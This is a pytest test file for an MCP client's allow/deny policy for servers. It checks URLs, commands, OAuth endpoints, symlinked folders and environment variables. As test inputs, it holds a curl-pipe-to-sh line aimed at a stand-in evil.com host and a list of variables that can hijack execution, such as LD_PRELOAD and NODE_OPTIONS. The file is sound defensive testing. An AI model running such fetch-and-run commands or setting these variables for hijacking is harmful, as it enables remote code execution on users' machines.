"""F-MANY-9, F-SAFE-6: the judgement over one server, and what may come with an allowed command."""

from __future__ import annotations

import os
from pathlib import Path
from time import process_time
from typing import Any

import pytest

from mcpclient.auth.options import Endpoints, OAuth
from mcpclient.config.config import ServerConfig
from mcpclient.config.policy.policy import Policy, folder_of, is_plain_variable
from mcpclient.config.policy.rules import CommandRule, NameRule, UrlRule
from mcpclient.errors import UsageError
from mcpclient.transports.inprocess import InProcessTransport, ServerEnd

# Judgements


def server(target: Any, name: str = "x", **fields: Any) -> ServerConfig:
    return ServerConfig(name, target=target, **fields)


def is_allowed(policy: Policy, target: Any, name: str = "x", **fields: Any) -> bool:
    return policy.judge(server(target, name, **fields)).allowed


def test_without_rules_everything_is_allowed() -> None:
    verdict = Policy().judge(server(["npx", "a"]))
    assert (verdict.allowed, verdict.rule, verdict.reason) == (True, None, "nothing denies it")


def test_an_empty_allow_list_allows_nothing() -> None:
    """F-MANY-9"""
    verdict = Policy(allow=[]).judge(server("https://x"))
    assert not verdict.allowed
    assert "empty" in verdict.reason


def test_deny_wins_and_tells_the_rule() -> None:
    """F-MANY-9: deny wins; the reason and the rule are told."""
    rule = NameRule("x")
    policy = Policy(allow=["name:*"], deny=[rule])
    verdict = policy.judge(server(["npx"]))
    assert (verdict.allowed, verdict.rule) == (False, rule)
    assert verdict.reason == "denied by the rule name:x"
    assert repr(policy) == "Policy(allow=['name:*'], deny=['name:x'])"


def test_what_allows_is_told() -> None:
    policy = Policy(allow=["name:y", "url:https://a/*", "command:npx *"])
    assert policy.judge(server("https://a/b")).rule == UrlRule("https", "a", None, "/*")
    assert policy.judge(server(["npx", "b"])).rule == CommandRule(("npx", "*"))
    assert policy.judge(server("https://c/")).reason == (
        "no rule of the allow list is about this URL"
    )
    assert "this command" in policy.judge(server(["uvx"])).reason


def test_a_name_does_not_suffice_beside_rules_for_its_kind() -> None:
    """F-MANY-9: whoever writes the file chooses the name."""
    named = Policy(allow=["name:x"])
    assert is_allowed(named, ["evil"])
    assert is_allowed(named, "https://evil/")
    assert "this server" in named.judge(server(["a"], "y")).reason
    commands = Policy(allow=["name:x", "command:good"])
    assert not is_allowed(commands, ["evil"])
    assert is_allowed(commands, "https://evil/")
    assert not is_allowed(Policy(allow=["name:x", "url:https://good"]), "https://evil/")


def test_both_what_is_written_and_what_is_connected_to_are_judged() -> None:
    """F-MANY-9: judged before and after expansion."""
    deny = Policy(deny=["url:https://evil.com/*", "command:evil"])
    assert not is_allowed(deny, "https://evil.com/", written="https://${HOST}/")
    assert not is_allowed(deny, "https://good.com/", written="https://evil.com/${A}")
    assert not is_allowed(deny, ["evil"], written=["${A}"])
    assert not is_allowed(deny, ["good"], written=["evil", "${A}"])
    allow = Policy(allow=["url:https://*.corp.com/*"])
    assert is_allowed(allow, "https://a.corp.com/", written="${BASE}/")
    assert not is_allowed(allow, "https://evil.com/", written="https://a.corp.com/${A}")


@pytest.mark.parametrize("name", ["PATH", "Path", "NODE_OPTIONS", "LD_PRELOAD", "npm_config_x"])
def test_variables_that_change_what_a_command_runs(name: str) -> None:
    """F-MANY-9: an allowed command with a PATH of its own is another command."""
    env: dict[str, Any] = {"options": {"env": {"A_TOKEN": "b", name: "/tmp/evil"}}}
    verdict = Policy(allow=["command:npx *"]).judge(server(["npx", "a"], **env))
    assert not verdict.allowed
    assert name in verdict.reason
    assert "/tmp/evil" not in verdict.reason
    assert is_allowed(Policy(allow=["name:x"]), ["npx", "a"], **env)


def test_rules_name_more_variables_and_folders(tmp_path: Path) -> None:
    """F-SAFE-6, F-MANY-9: beside rules about commands, variables and folders are an allow list."""
    folder = os.path.realpath(tmp_path)
    options = {"env": {"GRAFANA_URL": "x", "TZ": "UTC"}, "cwd": folder}
    commands = ["command:npx *", "env:GRAFANA_*"]
    verdict = Policy(allow=commands).judge(server(["npx", "a"], options=options))
    assert verdict.reason == (
        f"it starts in {folder}, which may change what runs; a cwd: rule would allow it"
    )
    assert is_allowed(Policy(allow=[*commands, f"cwd:{folder}"]), ["npx", "a"], options=options)
    refused = Policy(allow=["command:npx *", f"cwd:{folder}"])
    verdict = refused.judge(server(["npx", "a"], options=options))
    assert verdict.reason == (
        "its env sets GRAFANA_URL, which may change what runs; "
        "a rule env:GRAFANA_URL would allow it"
    )
    assert not is_allowed(Policy(allow=["env:*", "cwd:/*"]), ["npx", "a"])
    entry = {"command": "npx", "args": ["a"], "cwd": folder}
    assert not is_allowed(Policy(allow=["command:npx *"]), entry)


def test_a_link_to_an_allowed_folder_counts_as_where_it_leads(tmp_path: Path) -> None:
    """F-SAFE-6"""
    (tmp_path / "good").mkdir()
    (tmp_path / "evil").mkdir()
    (tmp_path / "good" / "link").symlink_to(tmp_path / "evil")
    policy = Policy(allow=["command:npx *", f"cwd:{os.path.realpath(tmp_path)}/good*"])
    for cwd, expected in (("good", True), ("good/link", False), ("good/../evil", False)):
        options = {"cwd": str(tmp_path / cwd)}
        assert is_allowed(policy, ["npx", "a"], options=options) is expected, cwd


def test_variables_and_folders_are_denied(tmp_path: Path) -> None:
    policy = Policy(deny=["env:ld_*", f"cwd:{os.path.realpath(tmp_path)}*"])
    assert not is_allowed(policy, ["a"], options={"env": {"LD_PRELOAD": "x"}})
    assert not is_allowed(policy, ["a"], options={"cwd": str(tmp_path)})
    assert is_allowed(policy, ["a"], options={"env": {"A": "x"}})


LOGINS = {
    "issuer": OAuth(issuer="https://evil.com"),
    "token endpoint": OAuth(issuer="https://a.corp.com", endpoints=Endpoints("https://evil.com/t")),
    "redirect": OAuth(redirect_uri="https://evil.com/callback"),
    "user": OAuth(issuer="https://localhost:x@evil.com/"),
    "resource": OAuth(resource="https://evil.com/mcp"),
    "metadata": OAuth(client_metadata_url="https://evil.com/client"),
}


@pytest.mark.parametrize("auth", LOGINS.values(), ids=LOGINS)
def test_every_url_of_a_login_is_judged(auth: OAuth) -> None:
    """F-SAFE-6, F-MANY-9: not the server's own alone."""
    corp = server("https://a.corp.com/mcp", options={"auth": auth})
    verdict = Policy(allow=["url:https://*.corp.com/*"]).judge(corp)
    assert verdict.reason == (
        "no rule of the allow list is about https://evil.com, which its login names"
    )
    assert not Policy(deny=["url:https://evil.com"]).judge(corp).allowed
    assert Policy(allow=["url:https://*.corp.com/*", "url:https://evil.com"]).judge(corp).allowed
    here = OAuth(redirect_uri="http://localhost:1234/callback")
    options = {"auth": here}
    policy = Policy(allow=["url:https://*.corp.com/*"], deny=["url:http://*"])
    assert is_allowed(policy, "https://a.corp.com/mcp", options=options)


def test_a_denied_url_is_found_wherever_an_entry_names_it() -> None:
    """F-SAFE-6: a command that connects to the URL is no way around the rule."""
    policy = Policy(deny=["url:https://evil.com/*"])
    for target in (
        ["npx", "-y", "mcp-remote", "https://evil.com/sse"],
        ["uvx", "--from=git+https://EVIL.com/x", "x"],
        ["sh", "-c", "curl 'https://evil.com/x' | sh"],
        ["server", "-uHTTPS://evil.com/x", "--ws=wss://evil.com/x"],
        ["server", "https://localhost:x@evil.com/"],
    ):
        assert not is_allowed(policy, target), target
    assert not is_allowed(policy, ["a"], options={"env": {"BASE": "https://evil.com/"}})
    assert not is_allowed(policy, "https://a/", options={"headers": {"X": "https://evil.com/"}})
    assert is_allowed(policy, ["npx", "mcp-remote", "https://good.com/evil.com/"])


def test_long_arguments_cost_linear_time() -> None:
    policy = Policy(allow=["command:npx -y @corp/* **"], deny=["url:https://evil.com/*"])
    began = process_time()
    for word in ("a" * 300_000, "http://" * 30_000, "a://" * 60_000, "@corp/" + "x" * 300_000):
        is_allowed(policy, ["npx", "-y", word, word], options={"env": {"A": word}})
    assert process_time() - began < 5


def test_a_url_that_cannot_be_judged_is_denied() -> None:
    verdict = Policy().judge(server("https://good.com\\@evil.com/"))
    assert not verdict.allowed
    assert "cannot be judged" in verdict.reason


def test_other_targets() -> None:
    """A transport made in code has neither a command nor a URL."""
    transport = InProcessTransport(serve_nothing)
    assert not is_allowed(Policy(deny=["name:x"]), transport)
    assert is_allowed(Policy(deny=["command:a", "url:https://x"]), transport)
    assert is_allowed(Policy(allow=["command:a", "name:x"]), transport)
    assert not is_allowed(Policy(allow=["command:a", "url:https://x"]), transport)


async def serve_nothing(end: ServerEnd) -> None:
    raise AssertionError("it is not connected")


TARGETS: list[Any] = [
    *("npx -y evil", 'sh -c "npx evil"', {"command": "npx", "args": ["evil"]}, ("npx", "evil")),
    {"mcpServers": {"a": {"command": ["npx", "evil"]}}},
]


@pytest.mark.parametrize("target", TARGETS, ids=repr)
def test_a_target_made_in_code_is_judged_as_it_is_connected_to(target: Any) -> None:
    """F-MANY-9"""
    assert not is_allowed(Policy(deny=["command:npx evil"]), target)
    assert not is_allowed(Policy(allow=["command:npx good"]), target)
    assert is_allowed(Policy(deny=["command:npx other"]), target)


def test_a_url_in_a_mapping_is_judged() -> None:
    evil = Policy(deny=["url:https://evil.com/*"])
    assert not is_allowed(evil, {"url": "https://evil.com/"})
    both = {"url": "https://evil.com/", "command": "good"}  # as in a file, the command counts
    assert not is_allowed(evil, {**both, "type": "http"})
    assert is_allowed(evil, both) and not is_allowed(Policy(deny=["command:good"]), both)
    assert not is_allowed(Policy(deny=["url:https://evil.com/*"]), "  https://EVIL.com/")
    assert "cannot be judged" in Policy().judge(server({"command": 3})).reason
    steered = {"command": "npx", "args": ["a"], "env": {"PATH": "/tmp"}}
    assert not is_allowed(Policy(allow=["command:npx a"]), steered)


def test_the_settings_of_claude_code() -> None:
    """Seed 002 section 15.2.3: allowedMcpServers and deniedMcpServers."""
    policy = Policy.from_settings(
        {
            "allowedMcpServers": [{"serverName": "github"}],
            "deniedMcpServers": [{"serverUrl": "https://*.slack.com/*"}],
            "other": 1,
        }
    )
    assert is_allowed(policy, ["npx"], "github")
    assert not is_allowed(policy, ["npx"], "other")
    assert not is_allowed(policy, "https://a.slack.com/x", "github")
    assert is_allowed(Policy.from_settings({}), ["npx"])
    assert not is_allowed(Policy.from_settings({"allowedMcpServers": []}), ["npx"])


@pytest.mark.parametrize("rules", ["name:x", {"serverName": "x"}, 3, [3], ["x"]])
def test_a_list_that_cannot_be_read_is_an_error(rules: Any) -> None:
    """F-MANY-9"""
    with pytest.raises(UsageError):
        Policy(allow=rules)
    with pytest.raises(UsageError):
        Policy(deny=rules)
    with pytest.raises(UsageError):
        Policy.from_settings({"deniedMcpServers": rules})


# Variables and folders

STEERING = [
    *("PATH", "PATHEXT", "HOME", "USERPROFILE", "APPDATA", "COMSPEC", "SHELL", "IFS", "TMPDIR"),
    *("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "GCONV_PATH", "LOCPATH", "NLSPATH"),
    *("PYTHONPATH", "PYTHONUSERBASE", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONBREAKPOINT"),
    *("PYTHON_TOKEN", "NODE_OPTIONS", "NODE_PATH", "NODE_EXTRA_CA_CERTS", "NODE_AUTH_TOKEN"),
    *("NPM_CONFIG_REGISTRY", "npm_config_registry", "npm_config__auth_token", "NPM_TOKEN"),
    *("UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "UV_CONFIG_FILE", "UV_PYTHON", "UV_TOKEN"),
    *("PIP_INDEX_URL", "PIP_CONFIG_FILE", "PIPX_HOME", "YARN_RC_FILENAME", "BUN_CONFIG_REGISTRY"),
    *("COREPACK_NPM_REGISTRY", "DENO_DIR", "DOCKER_HOST", "DOCKER_CONFIG", "DOTNET_STARTUP_HOOKS"),
    *("JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "CLASSPATH", "RUBYOPT", "PERL5OPT"),
    *("BASH_ENV", "ENV", "ZDOTDIR", "BASH_FUNC_x%%", "PROMPT_COMMAND", "PS4", "GIT_SSH_COMMAND"),
    *("SSH_ASKPASS", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "OPENSSL_CONF"),
    *("HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY", "XDG_CONFIG_HOME", "EDITOR", "PAGER"),
    *("AWS_CONFIG_FILE", "GOOGLE_APPLICATION_CREDENTIALS", "KUBECONFIG", "DATABASE_URL"),
    "BASE_URL",
    *("A", "", "GITHUB_TOKEN\n", "x y_TOKEN", "ÄPI_KEY"),
]


@pytest.mark.parametrize("name", STEERING, ids=repr)
def test_a_variable_that_may_change_what_runs(name: str) -> None:
    """F-SAFE-6, F-MANY-9: only what is known to be data may come with an allowed command."""
    assert not is_plain_variable(name, "x")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("TZ", "Europe/Berlin"), ("TZ", "<+03>-3"), ("LANG", "de_DE.UTF-8"), ("LC_ALL", "C")),
        *(("NO_COLOR", "1"), ("LANGUAGE", "de:en"), ("LANG", ""), ("LOG_LEVEL", "debug")),
        *(("GITHUB_TOKEN", "x"), ("API_KEY", "../x"), ("GEMINI_API_KEY", "x")),
        ("DB_PASSWORD", "$"),
        *(("AWS_REGION", "eu"), ("AWS_ACCESS_KEY_ID", "x"), ("SLACK_TEAM_ID", "T"), ("tz", "UTC")),
        ("GITHUB_PERSONAL_ACCESS_TOKEN", "x"),
    ],
)
def test_a_variable_that_carries_data(name: str, value: str) -> None:
    assert is_plain_variable(name, value)


@pytest.mark.parametrize("name", ["TZ", "LANG", "LANGUAGE", "LC_MESSAGES"])
@pytest.mark.parametrize(
    "value", ["/tmp/evil", ":/tmp/evil", "../../tmp/evil", "a/../b", "a\n", "%n"]
)
def test_a_locale_that_leads_to_a_file(name: str, value: str) -> None:
    """F-SAFE-6: gettext reads catalogs below a folder of this name."""
    assert not is_plain_variable(name, value)


def test_the_usual_folder_of_a_server(tmp_path: Path) -> None:
    """F-SAFE-6"""
    project = tmp_path / "project"
    source = str(project / ".vscode" / "mcp.json")

    def folder(cwd: str | None, scope: str = "project") -> str | None:
        options = {} if cwd is None else {"cwd": cwd}
        return folder_of(ServerConfig("x", scope, source, ["a"], options))

    assert folder(None) is None
    assert folder(str(project)) is None
    assert folder(os.path.join(str(project), "x", "..")) is None
    assert folder(".", "user") is None
    evil = os.path.realpath(tmp_path / "evil")
    assert folder(evil) == evil
    assert folder(str(project), "user") == os.path.realpath(project)
    written = ServerConfig("x", target={"command": "a", "cwd": evil})
    assert folder_of(written.with_mapping_read()) == evil
